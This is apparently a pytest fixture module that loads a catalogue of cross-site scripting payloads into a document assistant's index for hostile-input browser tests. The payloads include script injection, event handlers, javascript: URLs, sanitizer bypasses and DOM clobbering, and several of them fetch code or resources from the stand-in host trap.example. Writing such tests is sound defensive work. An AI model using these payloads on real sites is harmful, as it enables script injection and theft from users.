"""Words that try to become more than words, and a server over documents that hold them.

``RUN`` stands for a script that leaves its payload's number in ``window.ran``.
"""

from __future__ import annotations

import json
import shutil
import unicodedata
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from rag_assistant import Assistant
from rag_assistant.config import Settings
from tests.browser.crawl import Visit, write_crawl
from tests.browser.devtools import Page
from tests.served import Served, serving, write_collection

TRAP = "http://trap.example"
LONG = "w" * 10_000
BIDI = "\u202eevil\u2066 \u2067mixed"
_SCRIPTS = (
    f"<script>RUN; fetch('{TRAP}/script')</script>",
    f"<script src='{TRAP}/script.js'></script>",
    f"<ScRiPt/src='{TRAP}/case.js'>RUN</sCrIpT >",
    "<<script>RUN//<</script>",
    f"<script type=module>import '{TRAP}/module.js'</script>",
    "</script><script>RUN</script>",
    "</title></textarea></noscript><script>RUN</script>",
    "<!--><script>RUN</script-->",
    "<![CDATA[<script>RUN</script>]]>",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "＜script＞RUN＜/script＞",
    "<scr\u0000ipt>RUN</scr\u0000ipt>",
    "<scr\u200bipt>RUN</scr\u200bipt>",
)
_HANDLERS = (
    f"<img src=x onerror=\"RUN; new Image().src = '{TRAP}/onerror'\">",
    "<img src=x oneonerrorrror=RUN onerror\n=\nRUN>",
    '" onmouseover="RUN" autofocus onfocus="RUN" x="',
    "' onclick='RUN' style='position:fixed;inset:0",
    "<details open ontoggle=RUN><summary>more</summary></details>",
    "<body onload=RUN onpageshow=RUN onhashchange=RUN>",
    "<video autoplay onloadstart=RUN><source onerror=RUN></video>",
    "<marquee onstart=RUN>moving</marquee>",
    "<p id=x tabindex=1 onfocus=RUN contenteditable>focus</p><a href=#x>here</a>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=RUN>moves</p>",
    "<input type=image src=x onerror=RUN><isindex type=image src=1 onerror=RUN>",
)
_FETCHES = (
    f"<img src='{TRAP}/img.png'>",
    f"<img srcset='{TRAP}/srcset.png 1x, //trap.example/2.png 2x'>",
    f"<picture><source srcset='{TRAP}/source.png'><img src=x></picture>",
    f"<video poster='{TRAP}/poster.png' src='{TRAP}/film.mp4' autoplay></video>",
    f"<audio src='{TRAP}/sound.mp3' autoplay></audio><track src='{TRAP}/track.vtt'>",
    f"<object data='{TRAP}/object'></object><embed src='{TRAP}/embed'>",
    f"<applet code='{TRAP}/applet'></applet><frameset><frame src='{TRAP}/f'></frameset>",
    f"<iframe srcdoc='<script>parent.RUN</script>' src='{TRAP}/frame'></iframe>",
    f"<link rel=stylesheet href='{TRAP}/style.css'><style>@import '{TRAP}/import.css';</style>",
    f"<link rel=prefetch href='{TRAP}/prefetch'><link rel=preconnect href='{TRAP}'>",
    f"<link rel=dns-prefetch href='//trap.example'><link rel=icon href='{TRAP}/icon.png'>",
    f'<div style="position:fixed;inset:0;background:url({TRAP}/overlay.png)">overlay</div>',
    f'<p style="list-style:\\75\\72\\6c({TRAP}/escaped);width:expression(RUN)">css</p>',
    f"<style>*{{background:url({TRAP}/all.png)}} @font-face{{src:url({TRAP}/f.woff)}}</style>",
    f"<table background='{TRAP}/table.png'><td background='{TRAP}/cell.png'>cell</td></table>",
    f"<a href='{TRAP}/ping' ping='{TRAP}/pinged' download>ping</a>",
    f"<svg onload='RUN'><image href='{TRAP}/svg.png'/><use href='{TRAP}/use.svg#x'/></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s><set onend=RUN></svg>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>svg link</text></a></svg>",
    "<svg><foreignObject><body onload=RUN><iframe srcdoc='&lt;script&gt;RUN'></svg>",
)
_GOING = (
    f"<meta http-equiv=refresh content='0;url={TRAP}/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv=Set-Cookie content='a=b'><meta charset=utf-7>",
    f"<base href='{TRAP}/'><a href=relative>relative</a>",
    f"<form action='{TRAP}/form'><input name=q autofocus onfocus='RUN'><button>go</button></form>",
    "<button form=x formaction='javascript:RUN'>press</button><form id=x></form>",
    "<a href='javascript:RUN'>one</a> <a href='jAva\tscript&colon;RUN'>two</a>",
    "<a href='data:text/html,<script>RUN</script>' target=_top>data</a>",
    "<a href='vbscript:RUN'>vb</a> <a href=' &#14; javascript:RUN'>space</a>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+RUN//'>",
)
_MARKDOWN = (
    f"![seen]({TRAP}/markdown.png)",
    f"![seen][far] and [far]: {TRAP}/reference.png",
    f'[follow me](javascript:RUN) or [me]({TRAP}/link "title\' onmouseover=RUN")',
    f"<{TRAP}/autolink> and www.trap.example and <javascript:RUN>",
    f"note[^1] and [^1]: ![note]({TRAP}/footnote.png)",
    "[a](data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=) [b](vbscript:RUN)",
    "$$\\href{javascript:RUN}{x}$$ \\(\\includegraphics{http://trap.example/tex.png}\\)",
    '```mermaid graph TD; A-->B; click A href "javascript:RUN" ```',
    "# heading | a | b | --- | --- | <b>table</b> **bold** ~~gone~~ :smile:",
)
_SANITIZERS = (
    '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img t="--&gt;&lt;img src onerror=RUN&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>"></svg>',
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=RUN></style></math>",
    "<template><script>RUN</script></template><p><template shadowrootmode=open><img onerror=RUN>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<xmp><p title='</xmp><img src onerror=RUN>'></xmp><plaintext>",
    "<select><iframe></select><img src=x onerror=RUN></iframe>",
)
_CONFUSION = (
    "&lt;script&gt;RUN&lt;/script&gt; &#60;b&#62;",
    "&amp;lt;img src=x onerror=RUN&amp;gt; &amp;amp; &AMP;lt &#x26;#x3c;",
    "${RUN} {{constructor.constructor('RUN')()}} {% raw %}<%= RUN %> #{RUN} {RUN}",
    "%3Cscript%3ERUN%3C/script%3E +ADw-script+AD4-RUN+ADw-/script+AD4-",
    "<a id=config><a id=config name=gradio_config href=//trap.example>clobbered</a>",
    "<form id=document name=body><input name=cookie><input id=querySelector name=children></form>",
    "<img name=getElementById><iframe name=gradio_config srcdoc=x></iframe>",
    "</mark></blockquote></li></ol></div></main></body></html>",
    "'\"`;--\\\"\\' </b></i> <b <i onclick",
    "\u202eevil\u202c \u202dforced\u202c txt.exe",
    BIDI,
    "x\u200b\u200c\u200d\ufeff\u2060in\u00advis\u200bi\u200bble\u2028line\u2029paragraph",
    "Z\u0351\u036b\u0343\u036a\u0302\u0346a\u0334\u0335\u031el\u031fg\u0320o",
    LONG,
)
PAYLOADS = tuple(
    payload.replace("RUN", f"window.ran={number}")
    for number, payload in enumerate(
        (
            *(*_SCRIPTS, *_HANDLERS, *_FETCHES, *_GOING),
            *(*_MARKDOWN, *_SANITIZERS, *_CONFUSION),
        ),
        start=1,
    )
)
NAMES = tuple(
    f"{first}{last}"
    for first in (
        "Al",
        "Bran",
        "Cor",
        "Dun",
        "Ear",
        "Frid",
        "God",
        "Hil",
        "Ing",
        "Jor",
        "Ked",
        "Lam",
    )
    for last in ("bert", "wina", "mund", "gild", "rick", "olf", "stan", "trude")
)[: len(PAYLOADS)]
COLLECTIONS = (" ".join(_SCRIPTS[:2]), _FETCHES[0], _FETCHES[1])
"""Titles of the collections."""
PLACES = {"wood": "traps", "hill": "hills", "moor": "moors"}
# Each payload is read in a document, and in a record or a captured page.
PARTS = {"wood": slice(None), "hill": slice(0, None, 2), "moor": slice(1, None, 2)}
"""What a document, a record and a page tell of, each of one collection."""
_SEEN = {2019: "once", 2021: "then"}
_PLAIN = "Sheep graze around {name} moor, and walkers are asked to keep to the path in spring."
OURS = {
    *("a", "article", "bdi", "blockquote", "button", "cite", "dd", "del", "details", "div", "dl"),
    *("dt", "em", "h1", "h2", "h3", "h4", "ins", "li", "main", "mark", "nav", "ol", "p"),
    *("section", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "time"),
    *("tr", "ul", "caption", "code", "form", "input", "kbd", "label"),
}
OUR_ATTRIBUTES = {
    *("aria-hidden", "aria-label", "class", "datetime", "dir", "href", "id", "lang", "rel"),
    *("data-does", "hidden", "role", "scope", "start", "tabindex", "target", "title", "type"),
    *("value", "action", "autocomplete", "autofocus", "for", "maxlength", "method", "name"),
    *("required", "open", "aria-describedby", "autocapitalize", "spellcheck"),
}
_SCHEMES = ("file:///etc/passwd?", "blob:", "intent://", "view-source:", f"{TRAP}/link?")


def shown(payload: str) -> str:
    """A payload as it is shown: no reader keeps NUL, and no page keeps two spaces."""
    return " ".join(payload.replace("\0", "\ufffd").split())


def visible(words: str) -> str:
    """Without what has no width: titles of web pages are read without it."""
    return "".join(one for one in words if unicodedata.category(one) != "Cf")


def batches(most: int) -> list[str]:
    """All payloads but the long one, as many in a row as make at most ``most`` characters."""
    rows = [""]
    for payload in PAYLOADS:
        if payload != LONG and len(rows[-1]) + len(payload) >= most:
            rows.append("")
        rows[-1] += f" {payload}" if payload != LONG else ""
    return rows


def sources(name: str) -> tuple[str, ...]:
    """What that name's document, record and page say, and their addresses."""
    number = NAMES.index(name)
    payload = PAYLOADS[number]
    return (
        f"In {name} wood, {name} the trapper wrote {payload} on the door",
        f"On {name} hill stands {payload} in {name}'s own hand",
        *(
            f"{name} moor is wide, and {word} a stone on it bore these words. {payload} . "
            + _PLAIN.format(name=name)
            for word in _SEEN.values()
        ),
        _SCHEMES[number % len(_SCHEMES)] + "".join(payload.split()),
        _moor(name, payload),
    )


def _moor(name: str, payload: str) -> str:
    return f"http://moor.example/{name}?" + "".join(payload.split())[:500].replace("\0", "")


def index_traps(folder: Path) -> Settings:
    """Index payloads as documents, as records and as captured pages; settings of the data folder.

    `NAMES` tell them apart: the document of each is of "NAME wood", its record of "NAME hill", and
    its page, captured twice, of "NAME moor".
    """
    collections = (_documents(folder / "traps"), _records(folder / "hills"), _moors(folder))
    settings = Settings(data=folder / "data")
    with Assistant(settings) as assistant:
        report = assistant.index(collections)
        assert report.outcomes.failed == {}
        assert report.outcomes.indexed == 4 * len(PAYLOADS)
    return settings


def _documents(folder: Path) -> Path:
    files = {}
    for number, (name, payload) in enumerate(zip(NAMES, PAYLOADS, strict=True)):
        said = json.dumps(payload)
        uri = json.dumps(_SCHEMES[number % len(_SCHEMES)] + "".join(payload.split()))
        notice = f"{{type: {said}, text: {said}, community: {said}, uri: {uri}}}"
        files[f"{number:02}.md"] = (
            f"---\ntitle: {said}\ncreator: {said}\nnotices: [{notice}]\nuri: {uri}\n"
            f"rights: {{uri: {uri}, label: {said}}}\nidentifiers: {{id: {said}}}\n---\n"
            f"```\n{sources(name)[0]}\n```\n"
        )
    title, words = json.dumps(COLLECTIONS[0]), json.dumps(" ".join(_HANDLERS[:2]))
    return write_collection(
        folder,
        files,
        'id = "traps"',
        'access = "public"',
        f"title = {title}",
        f"description = {words}",
        f"contact = {words}",
        'catalogue_url = "javascript:window.ran={id}"',
        "[rights]",
        'uri = "javascript:window.ran=1"',
        f"label = {words}",
    )


def _records(folder: Path) -> Path:
    """A list of records, in which nothing is too wrong for an address."""
    records = [
        {
            **dict.fromkeys(("title", "creator", "uri", "publisher", "subject"), payload),
            **dict.fromkeys(("type", "rights", "rights_uri", "number"), payload),
            "text": sources(name)[1],
        }
        for name, payload in zip(NAMES, PAYLOADS, strict=True)
    ]
    return write_collection(
        folder,
        {"records.json": json.dumps(records)},
        'id = "hills"',
        'access = "public"',
        f"title = {json.dumps(COLLECTIONS[1])}",
        "[[mapping]]",
        'files = "*.json"',
        *('text = "text"', 'title = "title"', 'creator = "creator"', 'uri = "uri"'),
        *('publisher = "publisher"', 'subjects = "subject"', 'type = "type"', 'rights = "rights"'),
        *('rights_uri = "rights_uri"', 'identifiers = {call_number = "number"}'),
    )


def _moors(folder: Path) -> Path:
    visits: list[Visit] = []
    for name, payload in zip(NAMES, PAYLOADS, strict=True):
        for year, text in zip(_SEEN, sources(name)[2:4], strict=True):
            visits.append((f"{year}0101000000", _moor(name, payload), payload, text))
    replay = 'replay_url = "javascript:window.ran=1//{timestamp}/{url}"'
    about = (replay, f"title = {json.dumps(COLLECTIONS[2])}", 'access = "public"')
    return write_crawl(folder / "moors", visits, *about)


@pytest.fixture(scope="module")
def traps(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The data folder of `index_traps`, to be copied."""
    return index_traps(tmp_path_factory.mktemp("traps")).data


@pytest.fixture(scope="module")
def hostile(traps: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A server over documents that try everything."""
    data = shutil.copytree(traps, tmp_path_factory.mktemp("hostile") / "data")
    with serving(data, RAG_ANSWER__ANSWERER="extractive") as server:
        assert server.token
        yield server


def settle(page: Page) -> None:
    """Let what might have been started go off, and hear of it."""
    for _ in range(15):
        page.listen()


def stored(server: Served, names: Sequence[str], place: str) -> dict[str, dict[str, str]]:
    """By name, a passage of that name's document, record or captured page."""
    found: dict[str, dict[str, str]] = {}
    with server.client() as client:
        for first in range(0, len(names), 4):
            some = names[first : first + 4]
            query = " ".join((*some, place))
            body = {"query": query, "k": 30, "filters": {"collections": [PLACES[place]]}}
            hits = client.post("/api/search", json=body).json()["hits"]
            found |= {name: one for one in reversed(hits) for name in some if name in one["text"]}
    assert [one for one in names if one not in found] == []
    return found


def said_of(name: str, words: str) -> bool:
    """Whether these words hold what that name wrote."""
    payload = PAYLOADS[NAMES.index(name)]
    return name in words and (payload == LONG or shown(payload) in words)
